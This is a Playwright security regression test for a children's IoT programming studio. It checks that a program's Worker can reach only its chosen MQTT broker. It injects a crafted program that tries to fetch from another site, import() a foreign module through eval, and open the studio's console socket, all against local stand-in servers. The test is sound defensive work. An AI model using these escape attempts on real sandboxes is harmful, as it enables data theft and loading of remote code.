// Issue 14, row "A child's program can reach anything": a program (arriving through a crafted
// project, or pasted) could `fetch` any address, `import()` a module from another site and open
// the page's own /console from its Worker. Against `npm start`'s server in Chromium, the program
// Worker now reaches only the broker its page asked for: the program is run exactly as a child's
// Run runs it (the studio's ProgramRunner makes the Worker), with crafted code put in place of the
// generated code on its way to the Worker.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import mqtt from 'mqtt';
import type { Browser, Page } from 'playwright-core';
import { createBroker, type StudioBroker } from '../../src/server/broker.ts';
import type { Studio } from '../../src/server/studio-server.ts';
import {
  DEADLINE,
  eventually,
  launchChromium,
  openProject,
  projectWith,
  startTestStudio,
  waitForStudio,
} from '../e2e/studio.ts';

const HOST = '127.0.0.1';
/** What the crafted program reports on. */
const REPORTS = ['fetch', 'import', 'studio', 'broker'];

/** What the page saw of program Workers: their addresses and the messages they sent. */
interface Seen {
  workers: string[];
  messages: { type: string; text?: string; status?: string; message?: string }[];
}

declare global {
  interface Window {
    /** Put in place of the generated code of the next Run. */
    craftedCode?: string;
    seen: Seen;
  }
}

/**
 * Runs in the page before its scripts: Workers are made and told to run as the studio does, but
 * the test sees their addresses and messages, and a `run` carries the crafted code.
 */
function watchWorkers(): void {
  const Native = window.Worker;
  window.seen = { workers: [], messages: [] };
  window.Worker = class extends Native {
    constructor(url: string | URL, options?: WorkerOptions) {
      super(url, options);
      window.seen.workers.push(String(url));
      this.addEventListener('message', (event: MessageEvent) =>
        window.seen.messages.push(event.data),
      );
    }
    override postMessage(message: unknown, transfer?: unknown): void {
      const run = message as { type?: string };
      if (run?.type === 'run' && window.craftedCode) message = { ...run, code: window.craftedCode };
      super.postMessage(message, transfer as Transferable[]);
    }
  };
}

/**
 * A program that tries each way out of its Worker (another site, a foreign module, a WebSocket of
 * the studio that is not its broker), then publishes on its broker.
 */
function craftedProgram(foreign: string, studioSocket: string, clientId: string): string {
  return `import { mqtt, print, wifi } from "@iot-blocks/runtime";
const report = (what: string, outcome: string) => print(what + ": " + outcome);
try {
  const response = await fetch(${JSON.stringify(`${foreign}data.txt`)});
  report("fetch", "reached " + (await response.text()));
} catch {
  report("fetch", "blocked");
}
try {
  // As text, so that the transpiler leaves the import() to the browser.
  await (0, eval)("import(" + ${JSON.stringify(JSON.stringify(`${foreign}module.js`))} + ")");
  report("import", "reached");
} catch {
  report("import", "blocked");
}
try {
  await new Promise((resolve, reject) => {
    const ws = new WebSocket(${JSON.stringify(studioSocket)});
    ws.onopen = () => { ws.close(); resolve(0); };
    ws.onerror = reject;
  });
  report("studio", "reached");
} catch {
  report("studio", "blocked");
}
await wifi.connect("ssid", "password");
await mqtt.connect({ server: "x", port: 1883, clientId: ${JSON.stringify(clientId)}, username: "", password: "", keepalive: 60 });
await mqtt.publish("csp/" + ${JSON.stringify(clientId)}, "from the program");
report("broker", "reached");
`;
}

describe('A child’s program can reach anything', () => {
  let studio: Studio;
  let browser: Browser;
  let foreign: Server;
  let foreignUrl: string;
  let foreignRequests: string[];
  let otherBroker: StudioBroker;
  let otherServer: Server;
  let otherBrokerUrl: string;

  before(async () => {
    ({ studio } = await startTestStudio());
    browser = await launchChromium();
    // Another site that would answer a program: CORS open to everyone, so only the policy stops it.
    foreignRequests = [];
    foreign = createServer((req, res) => {
      foreignRequests.push(req.url ?? '');
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.setHeader('Content-Type', req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain');
      res.end(req.url?.endsWith('.js') ? 'export const stolen = true;\n' : 'secret\n');
    });
    foreign.listen(0, HOST);
    await once(foreign, 'listening');
    foreignUrl = `http://${HOST}:${(foreign.address() as AddressInfo).port}/`;
    // A broker of its own that a child may pick as "Other address…".
    otherBroker = await createBroker({ log: () => {} });
    otherServer = createServer();
    otherBroker.attachWebSocket(otherServer);
    otherServer.listen(0, HOST);
    await once(otherServer, 'listening');
    otherBrokerUrl = `ws://${HOST}:${(otherServer.address() as AddressInfo).port}/mqtt`;
  });

  after(async () => {
    await browser?.close();
    await studio?.close();
    foreign?.close();
    await otherBroker?.close();
    otherServer?.close();
  });

  /** A studio page that reports its Workers; the crafted program replaces what Run sends. */
  async function studioPage(): Promise<Page> {
    const page = await browser.newPage();
    // tsx keeps function names with a helper the page does not have.
    await page.addInitScript({ content: 'globalThis.__name = (target) => target;' });
    await page.addInitScript(watchWorkers);
    await page.goto(studio.url);
    await waitForStudio(page);
    // The studio makes its spare Worker (for its own broker) once it is idle.
    await page.waitForFunction(() => window.seen.workers.length > 0, null, { timeout: DEADLINE });
    return page;
  }

  /** Runs `code` with the studio's Run button; resolves with each report's outcome by name. */
  async function run(page: Page, code: string): Promise<Map<string, string>> {
    await page.evaluate((text) => (window.craftedCode = text), code);
    await page.locator('[data-action="run"]').click();
    const outcomes = new Map<string, string>();
    await page.waitForFunction(
      () =>
        window.seen.messages.some(
          (m) => (m.type === 'print' && m.text?.startsWith('broker:')) || m.type === 'error',
        ),
      null,
      { timeout: DEADLINE },
    );
    const seen = await page.evaluate(() => window.seen);
    for (const message of seen.messages) {
      if (message.type === 'error') assert.fail(`the program failed: ${message.message}`);
      const [what, outcome] = message.text?.split(': ') ?? [];
      if (message.type === 'print' && REPORTS.includes(what)) outcomes.set(what, outcome);
    }
    return outcomes;
  }

  /** The `broker` the last Worker's address carries. */
  async function workerBroker(page: Page): Promise<string | null> {
    const workers = await page.evaluate(() => window.seen.workers);
    assert.ok(workers.length > 0, 'a program Worker was made');
    return new URL(workers.at(-1)!, studio.url).searchParams.get('broker');
  }

  it('its fetch to another site and import() of a foreign module fail; its broker works', async () => {
    const watcher = await mqtt.connectAsync(`mqtt://${HOST}:${studio.mqttPort}`);
    const received: string[] = [];
    watcher.on('message', (topic, payload) => received.push(`${topic} ${payload}`));
    await watcher.subscribeAsync('csp/#');
    const page = await studioPage();
    try {
      const consoleUrl = `ws://${HOST}:${studio.httpPort}/console`;
      const outcomes = await run(page, craftedProgram(foreignUrl, consoleUrl, 'csp-own'));
      assert.deepEqual(Object.fromEntries(outcomes), {
        fetch: 'blocked',
        import: 'blocked',
        studio: 'blocked',
        broker: 'reached',
      });
      assert.deepEqual(foreignRequests, [], 'nothing reached the other site');
      await eventually(
        () => received.includes('csp/csp-own from the program'),
        'the program’s message on the studio’s broker',
      );
      assert.equal(await workerBroker(page), `ws://${HOST}:${studio.httpPort}/mqtt`);
    } finally {
      await page.close();
      await watcher.endAsync();
    }
  });

  it('with another broker picked, the Worker reaches that broker and not the studio’s', async () => {
    const watcher = await mqtt.connectAsync(otherBrokerUrl);
    const received: string[] = [];
    watcher.on('message', (topic, payload) => received.push(`${topic} ${payload}`));
    await watcher.subscribeAsync('csp/#');
    const page = await studioPage();
    try {
      const project = projectWith(
        [
          {
            type: 'text_print',
            inputs: { TEXT: { block: { type: 'text', fields: { TEXT: 'x' } } } },
          },
        ],
        // As a child may type it, with a password: it never goes into the Worker's address.
        { kind: 'custom', url: otherBrokerUrl.replace('ws://', 'ws://pupil:secret@') },
      );
      await openProject(page, project);
      const studioMqtt = `ws://${HOST}:${studio.httpPort}/mqtt`;
      const outcomes = await run(page, craftedProgram(foreignUrl, studioMqtt, 'csp-other'));
      assert.deepEqual(Object.fromEntries(outcomes), {
        fetch: 'blocked',
        import: 'blocked',
        studio: 'blocked',
        broker: 'reached',
      });
      assert.deepEqual(foreignRequests, []);
      await eventually(
        () => received.includes('csp/csp-other from the program'),
        'the program’s message on the other broker',
      );
      assert.equal(await workerBroker(page), otherBrokerUrl);
      const workers = await page.evaluate(() => window.seen.workers);
      assert.ok(!workers.some((url) => url.includes('secret')), workers.join('\n'));
      // The spare made for the studio's own broker was not used for the other one.
      const brokers = workers.map((url) => new URL(url).searchParams.get('broker'));
      assert.deepEqual(brokers.slice(0, 2), [
        `ws://${HOST}:${studio.httpPort}/mqtt`,
        otherBrokerUrl,
      ]);
    } finally {
      await page.close();
      await watcher.endAsync();
    }
  });
});
